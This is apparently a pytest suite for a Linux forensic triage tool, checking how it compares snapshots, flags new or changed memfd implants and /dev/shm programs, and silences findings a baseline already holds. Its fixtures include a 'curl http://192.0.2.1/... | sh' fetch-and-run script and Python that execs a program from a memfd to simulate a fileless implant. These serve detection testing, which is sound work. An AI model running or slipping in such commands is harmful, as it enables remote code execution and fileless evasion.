"""What is new, gone, changed, raised, lowered between collections; what a baseline silences.

Two kinds of evidence: built snapshots, where one fact is bent at a time, and real collections of
boxes that were restarted, with other pids and inodes.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import random
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.builders import (
    SEALED,
    SHA_A,
    SHA_B,
    content,
    mapping,
    memfd_inode,
    memory_file,
    memory_inode,
    mounts,
    process,
    snapshot,
)
from tests.conftest import CHECKOUT, FIXTURES
from tests.report.sample_reports import PAYLOADS, hostile, huge, infected
from tests.test_cli import triage
from triage.analyze import analyze
from triage.comparing.compare import Change, Comparison, Status, compare, silenced
from triage.comparing.likeness import identity
from triage.comparing.settled import settled
from triage.model import Artifact, Location, Report, Subject
from triage.model.linux_image import PersistenceItem
from triage.report.difference import render_json, render_text
from triage.snapshot import dumps
from triage.subjects.linux import facts_of

SHIPPED = CHECKOUT / "triage" / "report"


def validate(document: Any) -> None:
    """Against the comparison's schema, which takes subjects from the report's."""
    from referencing import Registry, Resource

    pages = [json.loads((SHIPPED / f"triage-{name}-1.schema.json").read_text()) for name in
             ("diff", "report")]  # fmt: skip
    known = Registry().with_resources((page["$id"], Resource.from_contents(page)) for page in pages)
    jsonschema.Draft202012Validator(pages[0], registry=known).validate(document)


def judged(*artifacts: Artifact, **more: Any) -> Report:
    return analyze(snapshot(*mounts(), *artifacts, **more))


def statuses(baseline: Report, current: Report) -> dict[str, Status]:
    return {change.subject.id: change.status for change in compare(baseline, current).changes}


def only(baseline: Artifact, current: Artifact) -> Change:
    [change] = compare(judged(baseline), judged(current)).changes
    return change


IMPLANT = {"exe": "/memfd:x (deleted)", "exe_mapped": True, "cmdline": ("agent", "-d")}


def implant(pid: int = 4242, inode: int = 1027, **more: Any) -> tuple[Artifact, ...]:
    """A process that runs from a memfd, and the memfd with its content."""
    file = memfd_inode(inode)
    holder = memory_file(
        "/memfd:x (deleted)", origin="memfd", file=file, mount_point=None, fs_type=None,
        content=content(sha256=more.pop("sha256", SHA_A)),
    )  # fmt: skip
    return process(pid, exe_file=file, **(IMPLANT | more)), holder


# --- the same thing -------------------------------------------------------------------------


def test_nothing_differs_from_itself() -> None:
    found = judged(*implant(), memory_file("/dev/shm/x"), process(9, exe="/dev/shm/x"))
    assert set(statuses(found, found).values()) == {Status.SAME}


def test_a_restart_changes_nothing() -> None:
    """Other pids, inodes, addresses, start times, namespaces: the same things."""
    before = judged(
        *implant(),
        process(7, exe="/usr/bin/node", cmdline=("node", "a.js"),
                mappings=(mapping("", "rwxp", 0, start=0x7F20_0000_0000),)),
        memory_file("/dev/shm/x"),
    )  # fmt: skip
    after = judged(
        *implant(999, 2099, start_ticks=77, start_time="2026-02-02T00:00:00Z"),
        process(1007, exe="/usr/bin/node", cmdline=("node", "a.js"), ppid=3,
                mappings=(mapping("", "rwxp", 0, start=0x7F99_0000_0000),)),
        memory_file("/dev/shm/x", file=memory_inode(inode=4711)),
    )  # fmt: skip
    assert len(after.subjects) == 4
    assert set(statuses(before, after).values()) == {Status.SAME}


def test_a_memfd_with_another_name_and_the_same_content_is_the_same() -> None:
    def at(name: str) -> Report:
        file = memfd_inode()
        text = f"/memfd:{name} (deleted)"
        held = memory_file(text, origin="memfd", file=file, mount_point=None, fs_type=None)
        return judged(process(exe=text, exe_file=file), held)

    assert set(statuses(at("a1b2"), at("c3d4")).values()) == {Status.SAME}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_hostile_reports_compare_to_themselves(payload: str) -> None:
    report = hostile(payload)
    found = compare(report, report)
    assert {change.status for change in found.changes} == {Status.SAME} or any(
        "in part only" in reason for change in found.changes for reason in change.reasons
    )
    for text in (render_text(found, details=True), render_json(found)):
        assert text.encode()
        assert "\x1b" not in text
        assert "\u202e" not in text


# --- what is not the same -------------------------------------------------------------------


def test_new_and_gone() -> None:
    before = judged(memory_file("/dev/shm/a"))
    after = judged(
        memory_file("/dev/shm/b", file=memory_inode(inode=8), content=content(sha256=SHA_B))
    )
    found = compare(before, after)
    assert [(change.status, change.subject.title) for change in found.changes] == [
        (Status.NEW, "/dev/shm/b: a Linux program in volatile storage"),
        (Status.GONE, "/dev/shm/a: a Linux program in volatile storage"),
    ]


def test_changes_that_tell_the_same_are_told_once() -> None:
    """Ten workers from as many memory files are one thing to decide about."""
    workers = [
        process(pid, exe=f"/dev/shm/worker-{pid}", cmdline=(f"worker-{pid}",))
        for pid in range(50, 60)
    ]
    text = render_text(compare(judged(), judged(*workers)), width=100)
    assert text.count("CRITICAL") + text.count("HIGH") == 1
    assert "9 more like it: process-51, process-52, process-53, process-54, process-55, and 4" in (
        " ".join(text.split())
    )
    assert text.startswith("baseline")
    long = render_text(compare(judged(), judged(*workers, *implant())), width=40).splitlines()
    assert " ".join(long[-2:]).endswith("0 changed, 0 lowered, 0 gone, 0 same")


def test_another_content_under_the_same_name_is_a_change() -> None:
    change = only(
        memory_file("/dev/shm/a"), memory_file("/dev/shm/a", content=content(sha256=SHA_B))
    )
    assert change.status is Status.CHANGED
    assert change.reasons == ("its content is another",)


def test_the_same_content_under_another_name_is_a_change() -> None:
    change = only(memory_file("/dev/shm/a"), memory_file("/dev/shm/b"))
    assert change.status is Status.CHANGED
    assert change.reasons[0] == "the same content under another name"


def test_content_that_was_only_sampled_is_never_the_same() -> None:
    sampled = memory_file("/dev/shm/a", content=content(sha256=None, examined=5))
    change = only(sampled, sampled)
    assert change.status is Status.CHANGED
    assert "in part only" in change.reasons[0]


@pytest.mark.parametrize("length", [3_000, 5_000, 300_000])
def test_padding_does_not_make_two_commands_one(length: int) -> None:
    def run(last: str) -> Artifact:
        return process(9, exe="/dev/shm/x", cmdline=("x", "=" * length, last))

    assert only(run("good"), run("good")).status is Status.SAME
    assert only(run("good"), run("evil")).status is Status.CHANGED


def test_what_is_started_is_compared_behind_what_is_shown_of_it() -> None:
    shown = [facts_of(persistent(f"/bin/sh -c '{'x' * 500} {last}'")) for last in "abb"]
    assert shown[0] != shown[1]
    assert shown[1] == shown[2]


def persistent(command: str) -> PersistenceItem:
    return PersistenceItem(Location("/etc/crontab", "line 3"), "cron", "root", command)


def test_a_file_that_was_not_read_is_never_the_same() -> None:
    file = memory_inode(mode=0o104755, uid=0)
    unread = memory_file("/dev/shm/.x", content=None, file=file)
    change = only(unread, unread)
    assert change.status is Status.CHANGED
    assert change.reasons == ("its content was not read, so it cannot be told the same",)


def test_other_code_in_memory_is_a_change_wherever_it_lies() -> None:
    def holding(*digests: str) -> Artifact:
        regions = tuple(
            mapping("", "rwxp", 0, start=0x7F20_0000_0000 + number * 0x10_0000,
                    content=content("shellcode", sha256=digest))
            for number, digest in enumerate(digests)
        )  # fmt: skip
        return process(7, exe="/usr/bin/java", cmdline=("java",), mappings=regions)

    assert only(holding(SHA_A, SHA_B), holding(SHA_A, SHA_B)).status is Status.SAME
    assert only(holding(SHA_A, SHA_B), holding(SHA_A, "c" * 64)).status is Status.CHANGED


def test_a_mapped_copy_of_a_known_program_does_not_make_a_memfd_that_program() -> None:
    """The program was not read; the content that is known is one of its mappings."""
    copy = mapping("", "r-xp", 0, start=0x7F20_0000_0000, content=content(sha256=SHA_A))
    unread = process(
        9, **IMPLANT | {"exe": "/memfd:y (deleted)"}, exe_file=memfd_inode(), mappings=(copy,)
    )
    [before, *_] = [each for each in judged(*implant()).subjects if each.kind == "process"]
    [now] = judged(unread).subjects
    assert now.content is not None
    assert identity(now) != identity(before)


def test_more_against_it_is_raised_and_less_is_lowered() -> None:
    mild = process(exe="/dev/x", cmdline=("x",))
    bad = process(exe="/dev/x", cmdline=("x",), mappings=(mapping("", "rwxp", 0),))
    up = only(mild, bad)
    assert up.status is Status.RAISED
    assert any("memory-anonymous-rwx" in reason for reason in up.reasons)
    down = only(bad, mild)
    assert down.status is Status.LOWERED
    assert any("no longer found" in reason for reason in down.reasons)


def test_what_was_judged_benign_and_is_no_more_is_raised() -> None:
    report = infected()
    [java] = [each for each in report.subjects if each.id == "process-900"]
    bare = tuple(dataclasses.replace(each, attested=False) for each in java.findings)
    worse = dataclasses.replace(java, benign=None, findings=bare)
    after = dataclasses.replace(report, subjects=(worse,))
    before = dataclasses.replace(report, subjects=(java,))
    [change] = compare(before, after).changes
    assert change.status is Status.RAISED


def test_another_script_of_the_same_interpreter_is_not_the_same() -> None:
    """Both run Python from a descriptor; only one of them was there before."""
    from triage.model import Argument

    def python(name: str) -> Artifact:
        memfd = memfd_inode()
        told = Argument(1, "/proc/self/fd/3", "/proc/self/fd/3", link=f"/memfd:{name} (deleted)",
                        fd=3, file=memfd, script=True)  # fmt: skip
        return process(exe="/usr/bin/python3", cmdline=("python3", "/proc/self/fd/3"),
                       arguments=(told,))  # fmt: skip

    assert only(python("build"), python("build")).status is Status.SAME
    assert only(python("build"), python("evil")).status is Status.CHANGED
    other = process(exe="/usr/bin/python3", cmdline=("python3", "/srv/x.py"))
    report = compare(judged(python("build")), judged(python("build"), other))
    assert {change.status for change in report.changes} == {Status.SAME}


def test_a_second_region_of_the_same_kind_is_a_change() -> None:
    region = mapping("", "rwxp", 0)
    another = mapping("", "rwxp", 0, start=0x7F40_0000_0000)
    one = process(exe="/usr/bin/node", mappings=(region,))
    two = process(exe="/usr/bin/node", mappings=(region, another))
    assert only(one, two).status in (Status.CHANGED, Status.RAISED)


def test_numbers_in_names_are_names() -> None:
    before = memory_file("/dev/shm/job-1", content=content(sha256=SHA_A))
    after = memory_file("/dev/shm/job-2", content=content(sha256=SHA_B))
    assert set(statuses(judged(before), judged(after)).values()) == {Status.NEW, Status.GONE}


def test_one_of_many_workers_more_is_not_new() -> None:
    workers = [process(pid, exe="/dev/shm/w", cmdline=("w",)) for pid in range(10, 14)]
    found = statuses(judged(*workers[:3]), judged(*workers))
    assert set(found.values()) == {Status.SAME}
    assert set(statuses(judged(*workers), judged(*workers[:3])).values()) == {Status.SAME}


def test_the_order_of_subjects_does_not_matter() -> None:
    before, after = infected(), huge(40)
    mixed = random.Random(3)
    for one, other in ((before, after), (after, before), (before, before)):
        shuffled = [
            dataclasses.replace(
                each, subjects=tuple(mixed.sample(each.subjects, len(each.subjects)))
            )
            for each in (one, other)
        ]
        text = render_json(compare(one, other))
        assert render_json(compare(*shuffled)) == text


def test_caveats_say_what_new_may_mean() -> None:
    clean = infected()
    other = dataclasses.replace(
        clean,
        host=dataclasses.replace(clean.host, hostname="other", tool_uid=1000),
        complete=False,
        collected_at="2027-01-01T00:00:00Z",
        coverage=clean.coverage[1:],
        root_kind="image",
    )
    told = " ".join(compare(other, clean).caveats)
    for words in ("another box", "cut short", "after", "without root", "of an image, not of a live",
                  "did not look at: processes"):  # fmt: skip
        assert words in told
    assert compare(clean, clean).caveats == ()


# --- silencing ------------------------------------------------------------------------------


def with_baseline(before: Report, after: Report) -> Report:
    return silenced(compare(before, after), "baseline b.jsonl")


def test_a_baseline_silences_what_was_there_visibly() -> None:
    found = with_baseline(judged(*implant()), judged(*implant(77, 99)))
    assert len(found.subjects) == 2
    for subject in found.subjects:
        assert subject.benign is not None
        assert subject.benign.reason.startswith("not new: unchanged since the baseline of ")
        assert "was critical" in subject.benign.reason or "was high" in subject.benign.reason
        assert subject.score <= 5 * 2
        assert all(finding.attested for finding in subject.findings)
    line = found.coverage[-1]
    assert line.collector == "baseline"
    assert "2 silenced, 0 new" in line.detail


@pytest.mark.parametrize(
    "after",
    [
        implant(sha256=SHA_B),
        implant(cmdline=("agent", "-x")),
        implant(uids=(0, 0, 0, 0)),
        implant(mappings=(mapping("", "rwxp", 0),)),
        implant(exe="/memfd:y (deleted)", exe_mapped=False),
        (process(exe="/dev/shm/x"),),
    ],
    ids=["content", "arguments", "user", "memory", "userland exec", "new"],
)
def test_a_baseline_never_silences_what_is_new_raised_or_changed(
    after: tuple[Artifact, ...],
) -> None:
    loud = judged(*after)
    found = with_baseline(judged(*implant()), loud)
    [now] = [each for each in found.subjects if each.kind == "process"]
    [was] = [each for each in loud.subjects if each.kind == "process"]
    assert now.benign is None
    assert (now.score, now.severity, now.findings) == (was.score, was.severity, was.findings)
    assert any("since the baseline" in line for line in now.explanation)


def test_settled_keeps_a_floor_while_anything_is_open() -> None:
    from triage.model import Benign

    subject = next(each for each in infected().subjects if each.id == "process-4242")
    bare = dataclasses.replace(subject, findings=subject.findings[1:], score=95)
    part = settled(bare, {"exe-memfd-masquerade"}, Benign("x", "y"))
    assert part.score == 95
    assert part.benign is None
    assert [each.attested for each in part.findings] == [True, False]
    whole = settled(bare, {each.indicator for each in bare.findings}, Benign("x", "y"))
    assert whole.benign is not None
    assert whole.score < 20


def test_a_name_that_is_given_twice_silences_nothing_else() -> None:
    """A forged snapshot may name a pid twice; the new one does not hide behind the old."""
    known = process(7, exe="/dev/shm/x", cmdline=("x",))
    other = process(7, exe="/dev/shm/y", cmdline=("y",))
    before = judged(known)
    for both in ((known, other), (other, known)):
        found = with_baseline(before, judged(*both))
        benign = {dict(each.facts)["exe"]: each.benign is not None for each in found.subjects}
        assert benign == {"/dev/shm/x": True, "/dev/shm/y": False}


# --- time -----------------------------------------------------------------------------------


def test_many_subjects_of_one_name_take_linear_time() -> None:
    """Whoever names ten thousand things alike and makes each differ does not stop the analyst."""
    from tests.report.sample_reports import report

    [first, *_] = infected().subjects

    def alike(count: int) -> Report:
        subjects = tuple(
            dataclasses.replace(first, id=f"process-{n}", facts=(*first.facts, ("mark", f"m{n}")))
            for n in range(count)
        )
        return report(subjects, "critical")

    def seconds(count: int) -> float:
        before, after = alike(count), alike(count)
        begun = time.process_time()
        compare(before, after)
        return time.process_time() - begun

    seconds(50)
    assert seconds(400) < 40 * max(seconds(50), 0.001)


# --- the command ----------------------------------------------------------------------------


def saved(path: Path, *artifacts: Artifact, **more: Any) -> Path:
    path.write_bytes(dumps(snapshot(*mounts(), *artifacts, **more)))
    return path


@pytest.fixture
def pair(tmp_path: Path) -> tuple[Path, Path]:
    """A baseline, and a snapshot with one thing more and one less."""
    old = memory_file("/dev/shm/old", content=content(sha256=SHA_B))
    before = saved(tmp_path / "before.jsonl", *implant(), old)
    after = saved(tmp_path / "after.jsonl", *implant(5, 7), process(6, exe="/dev/shm/new"))
    return before, after


def test_diff_tells_and_counts(pair: tuple[Path, Path]) -> None:
    done = triage("diff", *pair)
    assert done.returncode == 0, done.stderr
    text = done.stdout.decode()
    assert "1 new, 0 raised, 0 changed, 0 lowered, 1 gone, 2 same" in text
    assert text.index("NEW") < text.index("/dev/shm/new") < text.index("GONE")
    assert all(len(line) <= 80 for line in text.splitlines())
    assert b"memfd:x" not in done.stdout
    assert b"memfd:x" in triage("diff", "--details", *pair).stdout


def test_diff_as_json_is_valid_and_the_same_each_time(pair: tuple[Path, Path]) -> None:
    first, second = (triage("diff", *pair, "-o", "json=-") for _ in range(2))
    assert first.stdout == second.stdout
    document = json.loads(first.stdout)
    validate(document)
    assert document["summary"] == {
        "new": 1, "raised": 0, "changed": 0, "lowered": 0, "gone": 1, "same": 2,
    }  # fmt: skip


def test_diff_exit_codes(pair: tuple[Path, Path], tmp_path: Path) -> None:
    before, after = pair
    assert triage("diff", before, after, "--fail-on", "high").returncode == 1
    assert triage("diff", before, before, "--fail-on", "info").returncode == 0
    assert triage("diff", before).returncode == 2
    assert triage("diff", "-", "-").returncode == 2
    assert triage("diff", before, after, "-o", "html=x").returncode == 2
    assert triage("diff", before, tmp_path / "absent").returncode == 4
    text = before.read_text().replace("/dev/shm/old", "/dev/shm/odd")
    (tmp_path / "altered").write_text(text)
    assert triage("diff", tmp_path / "altered", after).returncode == 4
    empty = tmp_path / "empty"
    empty.write_bytes(dumps(dataclasses.replace(snapshot(), coverage=())))
    assert triage("diff", empty, after).returncode == 3


def test_diff_reads_one_snapshot_from_standard_input(pair: tuple[Path, Path]) -> None:
    before, after = pair
    done = triage("diff", "-", after, input=before.read_bytes())
    assert b"1 new" in done.stdout


def test_diff_never_overwrites_unasked(pair: tuple[Path, Path], tmp_path: Path) -> None:
    target = tmp_path / "out.json"
    target.write_text("precious")
    assert triage("diff", *pair, "-o", f"json={target}").returncode == 2
    assert target.read_text() == "precious"
    assert triage("diff", *pair, "-q", "-o", f"json={target}", "--force").returncode == 0
    validate(json.loads(target.read_text()))


@pytest.mark.parametrize("name", ["triage-diff-1.schema.json", "triage-report-1.schema.json"])
def test_the_published_schemas_are_the_shipped_ones(name: str) -> None:
    assert (CHECKOUT / "docs" / "schema" / name).read_bytes() == (SHIPPED / name).read_bytes()
    jsonschema.Draft202012Validator.check_schema(json.loads((SHIPPED / name).read_text()))


@pytest.mark.parametrize("form", ["analyze"])
def test_baseline_on_a_run(pair: tuple[Path, Path], form: str) -> None:
    before, after = pair
    done = triage(form, after, "--baseline", before, "-o", "json=-", "--fail-on", "critical")
    document = json.loads(done.stdout)
    judged_benign = {each["id"] for each in document["subjects"] if each["benign"]}
    assert "process-5" in judged_benign
    assert "process-6" not in judged_benign
    assert document["verdict"] == next(
        each["severity"] for each in document["subjects"] if each["id"] == "process-6"
    )
    assert document["coverage"][-1]["collector"] == "baseline"
    quiet = triage("analyze", before, "--baseline", before, "--fail-on", "low", "-o", "json=-")
    assert quiet.returncode == 0
    assert json.loads(quiet.stdout)["verdict"] == "info"


def test_a_bad_baseline_costs_no_collection(tmp_path: Path) -> None:
    (tmp_path / "b").write_text("nonsense")
    (tmp_path / "box" / "run").mkdir(parents=True)
    done = triage("image", tmp_path / "box", "--baseline", tmp_path / "b", "--save", tmp_path / "s")
    assert done.returncode == 4
    assert not (tmp_path / "s").exists()
    done = triage("analyze", "-", "--baseline", "-", input=b"")
    assert done.returncode == 2


# --- real collections -----------------------------------------------------------------------


def collected(root: Path, path: Path) -> Path:
    done = triage("collect", "--root", root, "-o", path, "-q")
    assert done.returncode == 0, done.stderr
    return path


def changes(before: Path, after: Path) -> dict[str, str]:
    """Status by the end of the title's first part, of a real run."""
    done = triage("diff", before, after, "-o", "json=-")
    assert done.returncode == 0, done.stderr
    rows = json.loads(done.stdout)["changes"]
    return {row["subject"]["location"]["path"]: row["status"] for row in rows}


def test_a_real_box_after_a_restart(tmp_path: Path) -> None:
    """The implant has another pid; a second one was started beside it."""
    first = Path(
        shutil.copytree(FIXTURES / "roots" / "memfd-implant", tmp_path / "a", symlinks=True)
    )
    second = Path(shutil.copytree(first, tmp_path / "b", symlinks=True))
    renumbered(second, 4242, 5151)
    before, after = (collected(box, tmp_path / f"{box.name}.jsonl") for box in (first, second))
    assert changes(before, after) == {"/proc/5151": "same"}
    shutil.copytree(second / "proc" / "5151", second / "proc" / "6161", symlinks=True)
    renumbered(second, 6161, 6161)
    (second / "proc" / "6161" / "cmdline").write_bytes(b"/usr/sbin/other\0")
    more = changes(before, collected(second, tmp_path / "c.jsonl"))
    assert more == {"/proc/5151": "same", "/proc/6161": "changed"}


def renumbered(box: Path, old: int, new: int) -> None:
    """Give a process of a fake box another pid, in its files, too."""
    top = box / "proc" / str(new)
    if old != new:
        (box / "proc" / str(old)).rename(top)
    stat = (top / "stat").read_text()
    (top / "stat").write_text(f"{new} {stat.partition(' ')[2]}")
    lines = (top / "status").read_text().splitlines()
    fresh = [
        f"{line.partition(':')[0]}:\t{new}"
        if line.startswith(("Pid:", "Tgid:", "NSpid:"))
        else line
        for line in lines
    ]
    (top / "status").write_text("\n".join(fresh) + "\n")


SCRIPT = b"#!/bin/sh\ncurl http://192.0.2.1/%d | sh\n"


def test_a_real_image_after_a_clean_up(tmp_path: Path) -> None:
    """Files are written anew (other inodes), one is changed, one removed, one added."""
    box = tmp_path / "box"
    place = box / "dev" / "shm"
    place.mkdir(parents=True)
    (box / "run").mkdir()
    for name in ("kept", "edited", "removed"):
        (place / name).write_bytes(SCRIPT % len(name))
    before = collected(box, tmp_path / "before.jsonl")
    shutil.rmtree(place)
    place.mkdir()
    (place / "kept").write_bytes(SCRIPT % 4)
    (place / "edited").write_bytes(SCRIPT % 777)
    (place / "added").write_bytes(SCRIPT % 888)
    after = collected(box, tmp_path / "after.jsonl")
    assert changes(before, after) == {
        "/dev/shm/kept": "same",
        "/dev/shm/edited": "changed",
        "/dev/shm/removed": "gone",
        "/dev/shm/added": "new",
    }
    done = triage("image", box, "--baseline", before, "-o", "json=-")
    benign = {
        each["location"]["path"]: each["benign"] is not None
        for each in json.loads(done.stdout)["subjects"]
    }
    assert benign == {"/dev/shm/kept": True, "/dev/shm/edited": False, "/dev/shm/added": False}


FROM_A_MEMFD = """
import os
fd = os.memfd_create(f"probe-{os.getpid()}")
os.write(fd, open("/bin/sleep", "rb").read() + b"of this test alone")
os.set_inheritable(1, False)
os.execv(f"/proc/self/fd/{fd}", ["probe", "1000"])
"""


@contextlib.contextmanager
def running_from_a_memfd() -> Iterator[int]:
    """The pid of a sleeper whose program lies in a memfd with a name of its own."""
    with subprocess.Popen([sys.executable, "-c", FROM_A_MEMFD], stdout=subprocess.PIPE) as child:
        assert child.stdout is not None
        assert child.stdout.read() == b""  # the exec closes it: then the memfd is what runs
        try:
            yield child.pid
        finally:
            child.kill()


@pytest.mark.live
def test_an_implant_that_was_started_between_two_looks_is_new(tmp_path: Path) -> None:
    before = collected(Path("/"), tmp_path / "before.jsonl")
    with running_from_a_memfd() as first:
        between = collected(Path("/"), tmp_path / "between.jsonl")
    with running_from_a_memfd() as second:
        after = collected(Path("/"), tmp_path / "after.jsonl")
    assert first != second
    assert changes(before, between)[f"/proc/{first}"] == "new"
    assert changes(between, after)[f"/proc/{second}"] == "same"
    assert changes(between, before)[f"/proc/{first}"] == "gone"
    for baseline, silent in ((before, False), (between, True)):
        done = triage("analyze", after, "--baseline", baseline, "-o", "json=-")
        rows = json.loads(done.stdout)["subjects"]
        [row] = [each for each in rows if each["id"] == f"process-{second}"]
        assert (row["benign"] is not None) == silent


def test_two_real_looks_at_this_machine_differ_little(tmp_path: Path) -> None:
    """The same things have the same identity a moment later, whatever this machine holds."""
    first, second = (
        json.loads(triage("live", "-o", "json=-", "-q").stdout)["subjects"] for _ in range(2)
    )
    ids = {each["id"] for each in first} & {each["id"] for each in second}
    for name in sorted(ids):
        one, other = (next(e for e in side if e["id"] == name) for side in (first, second))
        if one["facts"] == other["facts"]:
            assert identity(shaped(one)) == identity(shaped(other))


def shaped(row: dict[str, Any]) -> Subject:
    """As much of a subject as its identity needs, back out of the JSON report."""
    base = infected().subjects[0]
    from triage.model import Location

    where = Location(row["location"]["path"], row["location"]["inside"])
    facts = tuple(row["facts"].items())
    return dataclasses.replace(base, kind=row["kind"], location=where, facts=facts, content=None)


def test_seals_are_details() -> None:
    """A container runtime's clone and an implant of the same name are not the same."""
    clone = process(exe="/memfd:r (deleted)", exe_file=memfd_inode(seals=SEALED), cmdline=("r",))
    plain = process(exe="/memfd:r (deleted)", exe_file=memfd_inode(seals=0), cmdline=("r",))
    assert only(clone, plain).status in (Status.CHANGED, Status.RAISED)


def test_comparison_counts() -> None:
    found = compare(infected(), infected())
    assert isinstance(found, Comparison)
    assert sum(found.count(status) for status in Status) == len(infected().subjects)
